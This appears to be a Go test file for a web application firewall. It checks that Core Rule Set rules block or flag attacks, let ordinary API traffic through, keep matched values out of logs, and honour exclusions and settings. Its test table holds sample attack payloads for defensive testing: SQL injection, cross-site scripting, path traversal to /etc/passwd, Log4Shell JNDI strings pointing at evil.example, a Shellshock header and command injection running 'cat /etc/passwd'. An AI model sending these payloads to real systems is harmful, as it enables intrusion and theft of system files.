package waf

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/tapway/tapway"
	"github.com/tapway/tapway/internal/access"
)

const (
	form = "application/x-www-form-urlencoded"
	json = "application/json"
)

// attacks are what the Core Rule Set is there for, each with the family of rules that finds it.
var attacks = []struct {
	name, method, target, contentType, body string
	headers                                 []string
	rule                                    string // how the number of one rule begins
}{
	{"SQL in a query", "GET", "/items?id=1%27%20OR%20%271%27=%271%27%20--%20-", "", "", nil, "942"},
	{"SQL union in a form", "POST", "/items", form, "id=1+UNION+SELECT+username,password+FROM+users--", nil, "942"},
	{"SQL in JSON", "POST", "/items", json, `{"filter":{"name":"x' UNION SELECT password FROM users-- -"}}`, nil, "942"},
	{"SQL in JSON of another name", "POST", "/items", "application/vnd.api+json", `{"data":"1' or sleep(5)#"}`, nil, "942"},
	{"script in a query", "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "", "", nil, "941"},
	{"script in JSON", "POST", "/comments", json, `{"text":"<img src=x onerror=alert(1)>"}`, nil, "941"},
	{"script in XML", "POST", "/comments", "application/xml", `<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>`, nil, "941"},
	{"path traversal", "GET", "/files?name=../../../../etc/passwd", "", "", nil, "930"},
	{"path traversal in the path, encoded", "GET", "/files/..%2f..%2f..%2fetc%2fpasswd", "", "", nil, "930"},
	{"Log4Shell in a header", "GET", "/", "", "", []string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}, "944"},
	{"Log4Shell in a body", "POST", "/login", json, `{"user":"${jndi:ldap://evil.example/a}"}`, nil, "944"},
	{"Shellshock", "GET", "/cgi-bin/status", "", "", []string{"X-Name", "() { :; }; /bin/bash -c 'cat /etc/passwd'"}, "932"},
	{"shell command", "GET", "/ping?host=127.0.0.1;cat%20/etc/passwd", "", "", nil, "932"},
	{"scanner", "GET", "/", "", "", []string{"User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"}, "913"},
	{"method that no API has", "TRACE", "/", "", "", nil, "911"},
	{"malformed JSON", "POST", "/items", json, `{"a":`, nil, "200002"},
}

func TestAttacks(t *testing.T) {
	block, detect := newWorld(t, nil), newWorld(t, func(c *Config) { c.Mode = Detect })
	for _, a := range attacks {
		status, body := block.send(a.method, a.target, a.contentType, a.body, a.headers...)
		if status != http.StatusForbidden || body != `{"message":"Forbidden"}` && a.method != "HEAD" {
			t.Errorf("%s: %d %s", a.name, status, body)
		}
		if text := block.last(); !strings.HasPrefix(text, "waf: rule") || !strings.Contains(text, " "+a.rule) {
			t.Errorf("%s: the record says %q", a.name, text)
		}
		status, body = detect.send(a.method, a.target, a.contentType, a.body, a.headers...)
		if status != http.StatusOK || body != a.body {
			t.Errorf("%s, detected: %d %q", a.name, status, body)
		}
		if text, want := detect.last(), strings.Replace(block.last(), "waf: ", "waf would block: ", 1); text != want {
			t.Errorf("%s: the record of detect mode says %q, of block mode %q", a.name, text, block.last())
		}
	}
	if n := block.reached(); n != 0 {
		t.Errorf("%d blocked calls reached the backend", n)
	}
	if n := detect.reached(); n != len(attacks) {
		t.Errorf("%d of %d calls reached the backend in detect mode", n, len(attacks))
	}
	for w, verdict := range map[*world]string{block: "verdict=blocked", detect: "verdict=detected"} {
		if n := strings.Count(w.log.String(), verdict); n != len(attacks) {
			t.Errorf("%d lines with %s, want %d", n, verdict, len(attacks))
		}
	}
}

func upload(t *testing.T, fileName string, content []byte) (contentType, body string) {
	t.Helper()
	var b bytes.Buffer
	m := multipart.NewWriter(&b)
	if err := m.WriteField("title", "Summer in Málaga"); err != nil {
		t.Fatal(err)
	}
	part, err := m.CreateFormFile("file", fileName)
	if err != nil {
		t.Fatal(err)
	}
	part.Write(content)
	m.Close()
	return m.FormDataContentType(), b.String()
}

// TestLegitimate: what an API is there for passes at paranoia level 1, byte for byte.
func TestLegitimate(t *testing.T) {
	w := newWorld(t, nil)
	png := append([]byte("\x89PNG\r\n\x1a\n"), bytes.Repeat([]byte{0, 1, 2, 0xff, '\'', '<', ';'}, 900)...)
	multi, file := upload(t, "holiday.png", png)
	for _, c := range []struct {
		name, method, target, contentType, body string
		headers                                 []string
	}{
		{"GET", "GET", "/items/42?page=2&sort=-created_at&q=red+shoes", "", "", nil},
		{"GET with a cookie and a token", "GET", "/me", "", "", []string{"Cookie", "session=abc123", "Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"}},
		{"DELETE", "DELETE", "/items/42", "", "", nil},
		{"PUT", "PUT", "/items/42", json, `{"price":12.5}`, nil},
		{"PATCH", "PATCH", "/items/42", "application/merge-patch+json", `{"price":null}`, nil},
		{"preflight", "OPTIONS", "/items", "", "", []string{"Origin", "https://shop.example.com", "Access-Control-Request-Method", "PUT"}},
		{"words that SQL has too", "POST", "/orders", json, `{"note":"Please select the blue one from the union store and drop it at the table where we order"}`, nil},
		{"name with an apostrophe", "POST", "/customers", json, `{"name":"Conan O'Brien","company":"Smith & Sons"}`, nil},
		{"UTF-8", "POST", "/customers", json, `{"name":"Łukasz 山田 Ünsal 🙂","city":"Αθήνα"}`, nil},
		{"UTF-8 in a query", "GET", "/search?q=%E5%B1%B1%E7%94%B0", "", "", nil},
		{"form", "POST", "/login", form, "user=anna%40example.com&password=S3cure-Pass", nil},
		{"numbers and nesting", "POST", "/metrics", json, `{"series":[{"t":1,"v":[1,2,3]},{"t":2,"v":[4,5,-6.5e3]}],"ok":true}`, nil},
		{"XML", "POST", "/orders", "application/xml", `<order id="7"><item n="2">Tea</item></order>`, nil},
		{"SOAP", "POST", "/soap", "application/soap+xml", `<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body/></e:Envelope>`, nil},
		{"upload", "POST", "/photos", multi, file, nil},
		{"webhook", "POST", "/hooks/github", json, `{"ref":"refs/heads/main","after":"6dcb09b5b57875f334f61aebed695e2e4193db5e","commits":[{"message":"fix: update table of contents"}]}`, []string{"X-GitHub-Event", "push", "User-Agent", "GitHub-Hookshot/760256b"}},
		{"lines of JSON", "POST", "/bulk", "application/x-ndjson", "{\"index\":{\"id\":1}}\n{\"title\":\"Tea & biscuits\",\"price\":3}\n", nil},
		{"bytes", "PUT", "/blobs/1", "application/octet-stream", string(png), nil},
		{"text", "POST", "/notes", "text/plain", "Dear all,\n\nthe report is ready: 20% more than last year.\n", nil},
		{"empty POST", "POST", "/jobs/7/retry", "", "", nil},
	} {
		if status, body := w.send(c.method, c.target, c.contentType, c.body, c.headers...); status != http.StatusOK || body != c.body {
			t.Errorf("%s: %d, %d bytes of %d, %s", c.name, status, len(body), len(c.body), w.last())
		}
		if text := w.last(); text != "" {
			t.Errorf("%s: the record says %q", c.name, text)
		}
	}
	if text := w.log.String(); text != "" {
		t.Errorf("the log says %s", text)
	}
}

// TestNoValues: what a rule has matched may be a secret; it stands neither in log nor in record.
func TestNoValues(t *testing.T) {
	w := newWorld(t, nil)
	const secret = "hunter2secret"
	for _, c := range []struct {
		target, contentType, body string
		headers                   []string
	}{
		{"/?q=" + secret + "%27%20OR%20%271%27=%271%27--", "", "", nil},
		{"/?" + secret + "%3Cscript%3Ealert(1)%3C/script%3E=1", "", "", nil},
		{"/?" + secret + "[${jndi:ldap://x/a}]=1", "", "", nil},
		{"/", form, "password=" + secret + "%27+UNION+SELECT+1,2+FROM+users--", nil},
		{"/", json, `{"` + secret + `<script>":"<script>alert(1)</script>"}`, nil},
		{"/", "", "", []string{"X-Token", secret + " ${jndi:ldap://x/a}"}},
		{"/", "", "", []string{"Cookie", "s=" + secret + "<script>alert(1)</script>"}},
		{"/", "text/" + secret, "a=b", nil},
		{"/backup." + secret + ".bak", "", "", nil},
		{"/", json, `{"` + secret + `"`, nil},
	} {
		if status, _ := w.send("POST", c.target, c.contentType, c.body, c.headers...); status != http.StatusForbidden {
			t.Errorf("%s %s: %d", c.target, c.body, status)
		}
		if strings.Contains(w.last(), secret) {
			t.Errorf("the record says %q", w.last())
		}
	}
	text := w.log.String()
	if strings.Contains(text, secret) {
		t.Errorf("the log has the value:\n%s", text)
	}
	for _, want := range []string{"ARGS:q", "ARGS:password", "REQUEST_HEADERS:x-token", "messages="} {
		if !strings.Contains(strings.ToLower(text), strings.ToLower(want)) {
			t.Errorf("the log lacks %s:\n%s", want, text)
		}
	}
}

func TestExclusions(t *testing.T) {
	w := newWorld(t, func(c *Config) {
		c.Exclusions = []Exclusion{
			{Path: "/cms/", Rules: []string{"941000-941999"}},
			{Path: "/raw", Rules: []string{"all"}},
		}
	})
	const script, sql = "?q=%3Cscript%3Ealert(1)%3C/script%3E", "?q=1%27%20OR%20%271%27=%271%27%20--%20-"
	for target, want := range map[string]int{
		"/cms" + script:                   200,
		"/cms/pages" + script:             200,
		"/cms/pages" + sql:                403,
		"/cmsx" + script:                  403,
		"/CMS" + script:                   403,
		"/" + script:                      403,
		"/raw" + sql:                      200,
		"/raw/x" + script:                 200,
		"/rawer" + sql:                    403,
		"/raw/..%2fadmin" + sql:           403, // a backend may take it for /admin
		"/raw;/../admin" + sql:            403,
		"/raw/%252e%252e/admin" + sql:     403,
		"/raw/%2525252525252e/x" + script: 403, // encoded too often to be read
	} {
		if status, _ := w.send("GET", target, "", ""); status != want {
			t.Errorf("%s: %d, want %d", target, status, want)
		}
	}
}

func TestSettings(t *testing.T) {
	const mild = "/?q=1+or+2" // a thing for higher levels only
	for name, c := range map[string]struct {
		change func(*Config)
		target string
		want   int
	}{
		"paranoia 1":                    {nil, "/?q=%27", 200},
		"paranoia 4":                    {func(c *Config) { c.Paranoia = 4 }, "/?q=%27", 403},
		"one critical rule, five":       {nil, "/?q=%3Cscript%3E", 403},
		"threshold above the score":     {func(c *Config) { c.Threshold = 1000 }, "/?q=%3Cscript%3Ealert(1)%3C/script%3E", 200},
		"arguments":                     {func(c *Config) { c.Arguments = 3 }, "/?a=1&b=2&c=3", 200},
		"arguments, one more":           {func(c *Config) { c.Arguments = 3 }, "/?a=1&b=2&c=3&d=4", 403},
		"arguments in a body, one more": {func(c *Config) { c.Arguments = 3 }, "/ JSON [1,2,3,4]", 403},
		"arguments in a body":           {func(c *Config) { c.Arguments = 4 }, "/ JSON [1,2,3]", 200},
		"methods":                       {func(c *Config) { c.Methods = []string{"POST"} }, "/", 403},
		"mild":                          {nil, mild, 200},
	} {
		w := newWorld(t, c.change)
		method, contentType := "GET", ""
		target, body, isPost := strings.Cut(c.target, " JSON ")
		if isPost {
			method, contentType = "POST", json
		}
		if status, _ := w.send(method, target, contentType, body); status != c.want {
			t.Errorf("%s: %d, want %d; %s", name, status, c.want, w.last())
		}
	}
}

// TestExplain: whoever only asks is told the rules, and nothing is logged or held.
func TestExplain(t *testing.T) {
	w := newWorld(t, nil)
	chain := access.NewChain(access.Options{}, &access.ClientAddress{}, w.fire)
	for target, want := range map[string]string{
		"/?q=%3Cscript%3Ealert(1)%3C/script%3E": "rules 941100",
		"/?q=x":                                 "no rule, or too few",
	} {
		r := httptest.NewRequest("POST", target, strings.NewReader("a=b"))
		r.Header.Set("Content-Type", form)
		steps, _ := chain.Explain(r.WithContext(tapway.WithCall(r.Context(), new(tapway.Call))))
		why := ""
		for _, s := range steps {
			if s.Rule == "waf" {
				why = s.Why
			}
		}
		if !strings.Contains(why, want) {
			t.Errorf("%s: %q, want %q", target, why, want)
		}
		if body, err := io.ReadAll(r.Body); err != nil || string(body) != "a=b" && string(body) != "" {
			t.Errorf("the body is %q, %v", body, err)
		}
	}
	if text := w.log.String(); text != "" {
		t.Errorf("the log says %s", text)
	}
}

func ExampleConfig() {
	c := Default()
	fmt.Println(c.Mode, c.Paranoia, c.Threshold, int64(c.MaxBody), c.OnError)
	// Output: detect 1 5 131072 refuse
}
